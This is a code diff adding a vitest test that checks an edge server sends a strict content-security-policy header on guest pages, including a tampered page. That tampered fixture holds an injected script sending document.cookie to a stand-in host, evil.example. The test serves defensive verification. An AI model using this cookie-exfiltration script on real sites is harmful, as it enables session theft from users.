@@ -1,4 +1,5 @@
 import { GUEST_PAGE_CACHE_CONTROL, GUEST_PAGE_CONTENT_TYPE } from '@scc/aws';
+import { escapeHtml, guestPageCsp, renderGuestPage } from '@scc/pages';
 import { describe, expect, it, vi } from 'vitest';
 import { guestPageNotFoundHtml, runViewerRequest, viewerRequestEvent } from './cloudfront-function';
 import { localEdge, matchesPathPattern } from './edge';
@@ -31,12 +32,44 @@ describe('localEdge', () => {
       expect(Object.fromEntries(response.headers)).toEqual({
         'content-type': GUEST_PAGE_CONTENT_TYPE,
         'cache-control': GUEST_PAGE_CACHE_CONTROL,
+        'content-security-policy': guestPageCsp(),
         ...SECURITY_HEADERS,
       });
       expect(get).toHaveBeenCalledExactlyOnceWith('sunset-abc', expect.anything());
       expect(api).not.toHaveBeenCalled();
     },
   );
+
+  it("sends a page's own CSP as a header, so an object that is not SCC's page runs no script", async () => {
+    const mediaOrigin = 'http://192.168.1.20:4568';
+    const rendered = renderGuestPage(
+      {
+        slug: 'sunset-abc',
+        title: 'Sunset sail',
+        start: '2027-07-04T18:00:00-07:00',
+        end: '2027-07-04T21:00:00-07:00',
+        timezone: 'America/Los_Angeles',
+        boat: 'JADA',
+        meetingPoint: 'Dock C',
+        crew: [],
+        checklist: [],
+      },
+      { mediaOrigin },
+    );
+    const injected = '<!doctype html><script>fetch("https://evil.example/"+document.cookie)</script>';
+    const api = vi.fn(async () => new Response('api'));
+    const pages: Record<string, string> = { 'sunset-abc': rendered, 'tampered-abc': injected };
+    const edge = localEdge(api, { get: async (slug) => pages[slug] }, { mediaOrigin });
+    const csp = (await edge.fetch(new Request(`${BASE}/g/sunset-abc`))).headers.get('content-security-policy');
+    // The very policy the page carries in its <meta> tag, plus frame-ancestors.
+    expect(csp).toBe(guestPageCsp(mediaOrigin));
+    expect(rendered).toContain(`content="${escapeHtml(guestPageCsp(mediaOrigin).replace("; frame-ancestors 'none'", ''))}"`);
+    const tampered = await edge.fetch(new Request(`${BASE}/g/tampered-abc`));
+    expect(tampered.headers.get('content-security-policy')).toBe(csp);
+    // Only the guest page bundle's hash may run: no 'unsafe-inline', no other source.
+    expect(csp).toMatch(/script-src 'sha256-[A-Za-z0-9+/=]+'; /);
+    expect(csp).not.toContain('unsafe');
+  });
 
   it('answers HEAD with the headers and no body', async () => {
     const { fetch } = setup();
